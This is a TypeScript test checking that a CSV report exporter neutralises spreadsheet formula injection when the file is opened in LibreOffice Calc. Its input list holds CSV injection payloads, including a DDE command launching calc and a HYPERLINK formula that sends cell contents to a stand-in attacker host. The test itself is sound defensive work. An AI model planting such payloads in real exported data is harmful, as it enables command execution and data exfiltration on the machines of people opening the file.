import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import Papa from "papaparse";
import { sheetCsv } from "../lib/reports/report-stream";
import { runProgram } from "./program";

/** Reasons as somebody would type them who wants the spreadsheet of an auditor to do something. */
const hostile = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://attacker.example/?"&A1,"Click")`,
  "+1+1 and then some",
  "-2+3 and then some",
  "@SUM(1+1) and more",
  "\t=1+1 behind a tab",
  "\r=1+1 behind a return",
  "\n=1+1 behind a line end",
  " =1+1 behind a space",
  "\uFEFF=1+1 behind a mark",
  "\uFF1D1+1 in wide letters",
  `"=1+1" in quotes, "doubled ""quotes"" too`,
  `";=1+1;"`,
  ",=1+1,=2+2",
  "'=1+1 behind an apostrophe",
  "two\nlines\r\nof text; and, marks",
  `${'Very long, with “quotes”, "quotes"; and =1+1. '.repeat(400)}end`,
  "Łucja 漢字 🙂 שלום",
];

const columns = [
  { id: "event", title: "Event", kind: "number" },
  { id: "reason", title: "Reason", kind: "text" },
  { id: "after", title: "After", kind: "text" },
] as const;

async function* rows() {
  yield hostile.map((reason, index) => [index, reason, `after ${index}`]);
}

const failures: string[] = [];
const check = (name: string, isRight: boolean) => {
  if (!isRight) failures.push(name);
};

if (!(await hasCalc())) await install();
if (!(await hasCalc())) throw new Error("LibreOffice is not there: apt-get install libreoffice-calc");
const folder = fs.mkdtempSync(path.join(os.tmpdir(), "glimpse-calc-"));
try {
  await judge(folder);
} finally {
  fs.rmSync(folder, { recursive: true, force: true });
}
for (const name of failures) console.log(`FAILED: ${name}`);
console.log(`${hostile.length * 2 + 1 - failures.length} passed, ${failures.length} failed`);
process.exit(failures.length === 0 ? 0 : 1);

/** Opens the CSV in the spreadsheet: no cell may be a formula, and each must still say all that was typed. */
async function judge(into: string): Promise<void> {
  const sheet = { id: "reasons", title: "Reasons", columns, rows };
  fs.writeFileSync(path.join(into, "reasons.csv"), await new Response(sheetCsv(sheet)).text());
  await convert(into, "fods");
  const document = fs.readFileSync(path.join(into, "reasons.fods"), "utf8");
  check("no cell is a formula", !document.includes("table:formula="));
  fs.mkdirSync(path.join(into, "back"));
  await convert(into, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false", "back");
  const text = fs.readFileSync(path.join(into, "back", "reasons.csv"), "utf8");
  const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true });
  for (const [index, reason] of hostile.entries()) {
    const [event, cell = "", after] = data[index + 1] ?? [];
    const name = JSON.stringify(reason.slice(0, 40));
    check(`${name} stands in its own row and column`, event === String(index) && after === `after ${index}`);
    check(`${name} is whole: ${JSON.stringify(cell.slice(0, 60))}`, isWhole(cell, reason));
  }
}

/** A line's end may have become another; an apostrophe may stand in front. */
function isWhole(cell: string, reason: string): boolean {
  const plain = (text: string) => text.replaceAll(/\r\n?/g, "\n");
  return [plain(reason), `'${plain(reason)}`].includes(plain(cell));
}

async function convert(folder: string, to: string, into = "."): Promise<void> {
  const { code, output } = await runProgram({
    program: "soffice",
    args: [
      `-env:UserInstallation=file://${path.join(folder, "profile")}`,
      ...["--headless", "--convert-to", to, "--infilter=CSV:44,34,76,1", "--outdir", path.join(folder, into)],
      path.join(folder, "reasons.csv"),
    ],
    minutes: 3,
  });
  if (code !== 0) throw new Error(`LibreOffice did not open the CSV:\n${output}`);
}

async function hasCalc(): Promise<boolean> {
  return (await runProgram({ program: "soffice", args: ["--version"], minutes: 1 })).code === 0;
}

async function install(): Promise<void> {
  if (process.getuid?.() !== 0 || !fs.existsSync("/usr/bin/apt-get")) return;
  const env = { DEBIAN_FRONTEND: "noninteractive" };
  await runProgram({ program: "apt-get", args: ["update"], env, minutes: 5 });
  const args = [
    "install",
    "--yes",
    "--no-install-recommends",
    "-o",
    "DPkg::Lock::Timeout=300",
    "libreoffice-calc",
  ];
  await runProgram({ program: "apt-get", args, env, minutes: 10 });
}
